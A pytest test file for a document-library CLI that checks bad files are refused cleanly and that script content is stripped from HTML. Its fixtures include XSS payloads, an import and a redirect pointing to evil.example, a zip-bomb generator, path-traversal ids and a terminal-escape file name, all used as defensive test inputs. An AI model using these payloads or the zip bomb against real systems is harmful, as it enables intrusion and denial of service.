"""Bad files given to `assistant add` are refused with one line and change nothing; a good file still goes in.

Each bad file is made here, in the test's own folder, and added through the CLI to a small library made for
the module (one short Markdown report, its index built once). A refusal must exit non-zero with one line on
stderr naming the file and the reason in plain words, and leave the corpus folder, its manifest and the
index's current build exactly as they were.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from assistant.cli import main
from assistant.corpus.manifest import MANIFEST_NAME, Entry, sha256_bytes, write_manifest

from .conftest import REPO

REPORT = """# Lending Libraries Review

The borough reviewed its lending libraries in 2023. Visits fell by a tenth, but loans of tools and laptops
doubled, and the mobile library was busiest in the villages without a bus service.

## Findings

Residents without a car used the mobile library most. Opening on Sunday afternoons brought in families, and
the laptop loans were mostly taken by people applying for jobs.

## Recommendations

The council should keep the mobile library, open two branches on Sunday afternoons and pilot a tool loan
scheme before extending it to every branch.
"""
README = b"Notes for whoever keeps this folder; not a library document.\n"
PAGE = (
    "The district council reviewed how its libraries lend equipment to residents and found that demand rose in "
    "the winter months, when the mobile library could not reach the hill villages."
)
# what an HTML page carries that must never reach the document's text
PAYLOADS = ("XSS-1", "HANDLER-2", "LINK-3", "MODULE-4", "NOSCRIPT-5", "IMG-6", "IFRAME-7", "SVG-8", "STYLE-9", "alert", "evil")
SCRIPTED_PAGE = """<!DOCTYPE html>
<html><head><title>Mobile Library Timetable</title>
<script>var token = "XSS-1"; document.write("XSS-1");</script>
<style>.STYLE-9 { color: red }</style>
</head>
<body onload="steal('XSS-1')">
<h1 onclick="alert('HANDLER-2')">Mobile Library Timetable</h1>
<p onmouseover="evil('HANDLER-2')">The mobile library visits the northern villages on Tuesdays and the coast on
Fridays, stopping for an hour at each village hall.</p>
<p>Read the <a href="javascript:alert('LINK-3')">full timetable</a> before travelling.</p>
<script type="module">import("https://evil.example/MODULE-4.js")</script>
<noscript>NOSCRIPT-5</noscript>
<img src="x.png" onerror="alert('IMG-6')" alt="IMG-6">
<iframe srcdoc="&lt;p&gt;IFRAME-7&lt;/p&gt;"></iframe>
<svg><script>alert('SVG-8')</script><text>SVG-8</text></svg>
<p>Stops are cancelled when snow is forecast, and the library posts the changes at each hall.</p>
</body></html>
"""


def pdf_bytes(pages: list[str], unmapped: bool = False) -> bytes:
    """A small real PDF with a text layer, one page per string (Helvetica; or, with ``unmapped``, a font
    that does not say which characters its glyphs are, as in PDFs whose text cannot be copied)."""
    if unmapped:
        font = (
            b"<< /Type /Font /Subtype /Type0 /BaseFont /NoMap /Encoding /Identity-H /DescendantFonts [<< /Type /Font"
            b" /Subtype /CIDFontType2 /BaseFont /NoMap /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity)"
            b" /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /NoMap /Flags 4 /FontBBox"
            b" [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >> /DW 500 >>] >>"
        )

        def show(line: str) -> str:
            return "<" + "".join(f"{ord(c) - 29:04X}" for c in line) + "> '"
    else:
        font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"

        def show(line: str) -> str:
            return "(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") '"

    streams = [
        ("BT /F1 11 Tf 14 TL 72 720 Td " + " ".join(show(x) for x in textwrap.wrap(p, 80)) + " ET").encode() for p in pages
    ]
    kids = b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(len(streams)))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, len(streams)), font]
    for i, stream in enumerate(streams):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >>"
            b" /Contents %d 0 R >>" % (5 + 2 * i)
        )
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


GOOD_PDF = pdf_bytes([f"Page {n}. {PAGE}" for n in range(1, 5)])


def encrypted_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(GOOD_PDF)))
    writer.encrypt("pw")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def picture(fmt: str) -> bytes:
    """A page of text as a picture only (what a scanner makes): PNG, or PDF with no text layer."""
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (850, 1100), "white")
    ImageDraw.Draw(image).multiline_text((60, 60), "\n".join(textwrap.wrap(PAGE, 60)), fill="black")
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A .docx-shaped zip whose document part unpacks to 300 MiB of zeros (about 1 MB on disk)."""
    out = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="x"/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(chunk)
    return out.getvalue()


def random_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "not a Word document")
        archive.writestr("data/blob.bin", random.Random(1).randbytes(2000))
    return out.getvalue()


def empty_docx() -> bytes:
    import docx

    document = docx.Document()
    for _ in range(4):
        document.add_paragraph("")
    document.add_paragraph("   \t ")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def report_as_html() -> bytes:
    from markdown_it import MarkdownIt

    body = MarkdownIt().render(REPORT)
    return f"<!DOCTYPE html><html><head><title>Review</title></head><body>{body}</body></html>".encode()


SCRIPTS_ONLY = b"""<!DOCTYPE html><html><head><title>Tracker</title><script>track("a")</script></head>
<body><script>window.location = "https://evil.example/";</script><script src="x.js"></script>
<noscript>Please enable JavaScript.</noscript></body></html>"""


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory, embedder) -> Path:  # type: ignore[no-untyped-def]
    """A home folder with corpus/ (one Markdown report, listed as 'review', and an unlisted readme) and index/."""
    from assistant import Assistant
    from assistant.config import Settings

    home = tmp_path_factory.mktemp("bad-files") / "home"
    corpus = home / "corpus"
    corpus.mkdir(parents=True)
    (corpus / "review.md").write_text(REPORT, encoding="utf-8")
    (corpus / "readme.md").write_bytes(README)
    entry = Entry(id="review", file="review.md", title="Lending Libraries Review", sha256=sha256_bytes(REPORT.encode()))
    write_manifest(corpus, [entry])
    Assistant.load(Settings(corpus_dir=corpus, index_dir=home / "index"), embedder=embedder, notify=lambda _m: None)
    return home


Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def cli(library: Path, embedder, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Run:  # type: ignore[no-untyped-def]
    """`assistant …` in this process against the module's library; returns (exit code, stdout, stderr)."""
    monkeypatch.setenv("ASSISTANT_HOME", str(library))
    monkeypatch.setenv("ASSISTANT_CORPUS", str(library / "corpus"))
    monkeypatch.setenv("ASSISTANT_INDEX", str(library / "index"))
    monkeypatch.setattr("assistant.api.default_embedder", lambda _settings: embedder)  # the same model, loaded once

    def run(*args: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = main(list(args))
        out = capsys.readouterr()
        return code, out.out, out.err

    return run


def state(home: Path) -> tuple[list[str], bytes, str, list[str]]:
    """What a refusal must not change: the corpus folder's listing, the manifest's bytes, the index's current
    build, and every file under the folder around the library (the parse cache aside)."""
    corpus = home / "corpus"
    around = home.parent
    files = sorted(str(p.relative_to(around)) for p in around.rglob("*") if "parsed" not in p.parts)
    current = (home / "index" / "CURRENT").read_text(encoding="utf-8")
    return sorted(p.name for p in corpus.iterdir()), (corpus / MANIFEST_NAME).read_bytes(), current, files


def assert_refused(run: Run, library: Path, path: Path, reason: str, *flags: str) -> str:
    """Add ``path``; the one line of stderr must name it and match ``reason``; nothing may change."""
    before = state(library)
    code, out, err = run("add", *flags, str(path))
    assert code != 0
    lines = err.splitlines()
    assert len(lines) == 1, err
    line = lines[0]
    assert line.startswith(("Not added: ", "Error: ")), line
    assert path.name in line, line
    assert re.search(reason, line), line
    assert not re.search(r"Traceback|\b\w+(?:Error|Exception)\b|\(cid:", line), line
    shown = line.replace(path.name, "")
    for flag in flags:
        shown = shown.replace(flag.partition("=")[2], "")
    assert str(path.parent) not in line and "/" not in shown, line
    assert "Added" not in out
    assert state(library) == before
    return line


BAD_FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "encrypted.pdf": (encrypted_pdf, r"encrypted\.pdf is encrypted or password-protected; save an unprotected copy"),
    "scanned.pdf": (lambda: picture("PDF"), r"scanned\.pdf has no text layer \(a scanned document needs OCR"),
    "truncated.pdf": (lambda: GOOD_PDF[: len(GOOD_PDF) // 2], r"truncated\.pdf is damaged or truncated"),
    "malformed.pdf": (lambda: b"%PDF-1.7\n" + random.Random(2).randbytes(5000), r"malformed\.pdf is damaged"),
    "garbled.pdf": (
        lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\n" + random.Random(3).randbytes(3000) + b"\n%%EOF\n",
        r"garbled\.pdf is damaged",
    ),
    "mediabox.pdf": (lambda: GOOD_PDF.replace(b"[0 0 612 792]", b"[0 0 612 /x ]", 1), r"mediabox\.pdf is damaged"),
    "unmapped.pdf": (lambda: pdf_bytes([PAGE, PAGE], unmapped=True), r"unmapped\.pdf's text cannot be extracted"),
    "bomb.docx": (zip_bomb, r"bomb\.docx unpacks to 315 MB: refused as a possible zip bomb"),
    "random.docx": (random_zip, r"random\.docx is a zip file, not a PDF, Word, HTML, Markdown or text document"),
    "tracker.html": (lambda: SCRIPTS_ONLY, r"tracker\.html has no text\.$"),
    "empty.txt": (lambda: b"", r"empty\.txt is empty\.$"),
    "blank.md": (lambda: b"  \n\n\t \r\n", r"blank\.md is empty\.$"),
    "invisible.txt": (lambda: "\u200b\u200b\ufeff\u2060\n".encode(), r"invisible\.txt has no text\.$"),
    "empty.docx": (empty_docx, r"empty\.docx has no text\.$"),
    "noise.pdf": (
        lambda: random.Random(4).randbytes(4000),
        r"noise\.pdf is not UTF-8 text, nor a PDF, Word, HTML or Markdown document",
    ),
    "noise.txt": (
        lambda: random.Random(5).randbytes(4000),
        r"noise\.txt is not UTF-8 text, nor a PDF, Word, HTML or Markdown document",
    ),
    "photo.pdf": (lambda: picture("PNG"), r"photo\.pdf is a png file, not a PDF, Word, HTML, Markdown or text document"),
    "photo.txt": (lambda: picture("PNG"), r"photo\.txt is a png file"),
    "copy.md": (REPORT.encode, r"copy\.md is already in the library as 'review'\.$"),
    "review.html": (report_as_html, r"review\.html has the same text as 'review', already in the library\.$"),
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_file_is_refused_in_one_line_and_changes_nothing(cli: Run, library: Path, tmp_path: Path, name: str) -> None:
    make, reason = BAD_FILES[name]
    path = tmp_path / name
    path.write_bytes(make())
    assert_refused(cli, library, path, reason)


def test_a_200_mb_file_is_refused_for_its_size_before_it_is_read(
    cli: Run, library: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "huge report.txt"
    with path.open("wb") as handle:
        handle.truncate(200_000_000)  # sparse: no disk used
    read_bytes = Path.read_bytes

    def guarded(self: Path) -> bytes:
        assert self.name != path.name, "the file was read before its size was checked"
        return read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", guarded)
    assert_refused(cli, library, path, r"huge report\.txt is 200 MB; the limit is 50 MB\.$")


def test_a_folder_and_a_missing_file_are_refused(cli: Run, library: Path, tmp_path: Path) -> None:
    assert_refused(cli, library, tmp_path / "nowhere.pdf", r"nowhere\.pdf does not exist\.$")
    (tmp_path / "empty-folder").mkdir()
    assert_refused(cli, library, tmp_path / "empty-folder", r"No files to add in empty-folder")


def test_a_name_with_control_characters_stays_on_one_line(cli: Run, library: Path, tmp_path: Path) -> None:
    path = tmp_path / "minutes\n\x1b[2Jcleared.txt"
    path.write_bytes(b"")
    before = state(library)
    code, _out, err = cli("add", str(path))
    assert code != 0 and state(library) == before
    assert err == "Not added: minutes??[2Jcleared.txt is empty.\n"


def test_damaged_pdf_prints_one_line_from_the_real_command(library: Path, tmp_path: Path) -> None:
    """Outside pytest's log capture: what the PDF libraries log about a damaged file stays off the terminal."""
    path = tmp_path / "truncated.pdf"
    path.write_bytes(GOOD_PDF[: len(GOOD_PDF) // 2])
    env = {**os.environ, "ASSISTANT_HOME": str(library), "ASSISTANT_CORPUS": str(library / "corpus")}
    env["ASSISTANT_INDEX"] = str(library / "index")
    before = state(library)
    result = subprocess.run(
        [sys.executable, "-m", "assistant.cli", "add", str(path)], cwd=REPO, env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode != 0
    assert result.stderr.splitlines() == ["Not added: truncated.pdf is damaged or truncated (not a readable PDF)."]
    assert state(library) == before


@pytest.mark.parametrize("doc_id", ["../../evil", "Foo Bar", "a/b", ".hidden", "-x", "x" * 80])
def test_an_id_that_is_not_a_plain_name_is_refused(cli: Run, library: Path, tmp_path: Path, doc_id: str) -> None:
    path = tmp_path / "notes.md"
    path.write_text("# Opening Hours\n\nThe central library opens at nine on weekdays and at ten on Saturdays.\n")
    line = assert_refused(cli, library, path, r"id", "--no-index", f"--id={doc_id}")
    assert f"notes.md cannot take the id '{doc_id}': an id is lower-case letters, digits and dashes." in line
    assert not (library.parent / "evil.md").exists()


def test_a_file_is_judged_by_content_and_stored_under_a_safe_name(cli: Run, library: Path, tmp_path: Path) -> None:
    """A real PDF called `report (final).PDF` and text called `opening hours.pdf` both go in, each under a name
    made from its id in the corpus folder, and nothing else appears anywhere."""
    before = state(library)
    pdf = tmp_path / "report (final).PDF"
    pdf.write_bytes(GOOD_PDF)
    text = tmp_path / "opening hours.pdf"
    text.write_text("Opening hours\n\nThe central library opens at nine on weekdays and at ten on Saturdays.\n")
    code, out, err = cli("add", "--no-index", str(pdf), str(text))
    assert code == 0, err
    assert out.count("Added") == 2 and "(pdf, 4 pages)" in out and "(text)" in out
    added = set(state(library)[0]) - set(before[0])
    assert len(added) == 2 and all(re.fullmatch(r"[a-z0-9][a-z0-9-]*\.(pdf|txt)", name) for name in added), added
    assert {Path(name).suffix for name in added} == {".pdf", ".txt"}
    new_files = set(state(library)[3]) - set(before[3])
    assert new_files == {f"home/corpus/{name}" for name in added}
    ids = re.findall(r"Added '([a-z0-9-]+)'", out)
    for doc_id in ids:
        assert cli("remove", "--no-index", doc_id)[0] == 0
    assert state(library)[:2] == before[:2]


def test_a_new_document_never_overwrites_a_file_in_the_corpus_folder(cli: Run, library: Path, tmp_path: Path) -> None:
    """A document titled "Readme" would be stored as readme.md, the folder's own note: it takes another name."""
    before = state(library)
    path = tmp_path / "note.md"
    path.write_text("# Readme\n\nHow the council's readers' group chooses its books: by a vote at the first meeting.\n")
    code, out, err = cli("add", "--no-index", str(path))
    assert code == 0, err
    assert (library / "corpus" / "readme.md").read_bytes() == README
    doc_id = re.findall(r"Added '([a-z0-9-]+)'", out)[0]
    assert doc_id != "readme"
    assert cli("remove", "--no-index", doc_id)[0] == 0
    assert state(library)[:2] == before[:2]


def _list_ids(cli: Run) -> list[str]:
    code, out, err = cli("list", "--json")
    assert code == 0, err
    return [row["id"] for row in json.loads(out)]


def _indexed(library: Path) -> list[dict[str, str]]:
    from assistant.index import store

    build = store.current_build(library / "index")
    return [json.loads(line) for line in (build / "passages.jsonl").read_text(encoding="utf-8").splitlines() if line]


def test_after_the_refusals_a_page_with_scripts_is_added_indexed_and_removed(cli: Run, library: Path, tmp_path: Path) -> None:
    """The library lists what it listed; a real page whose scripts, handlers and javascript: links are dropped
    goes in and is searchable; removing it takes its passages out of the index."""
    assert _list_ids(cli) == ["review"]
    before = state(library)
    path = tmp_path / "timetable.html"
    path.write_text(SCRIPTED_PAGE, encoding="utf-8")
    code, out, err = cli("add", str(path))
    assert code == 0, err
    assert "Added 'mobile-library-timetable': Mobile Library Timetable (html)." in out
    assert _list_ids(cli) == ["review", "mobile-library-timetable"]
    passages = [p for p in _indexed(library) if p["doc_id"] == "mobile-library-timetable"]
    text = " ".join(p["text"] for p in passages)
    assert "northern villages on Tuesdays" in text and "full timetable" in text and "snow is forecast" in text
    for payload in PAYLOADS:
        assert payload not in text
    code, out, err = cli("search", "When does the mobile library visit the coast?", "--json", "-k", "1")
    assert code == 0, err
    assert json.loads(out)["results"][0]["doc_id"] == "mobile-library-timetable"

    code, out, err = cli("remove", "mobile-library-timetable")
    assert code == 0, err
    assert _list_ids(cli) == ["review"]
    assert not [p for p in _indexed(library) if p["doc_id"] == "mobile-library-timetable"]
    assert state(library)[:2] == before[:2]
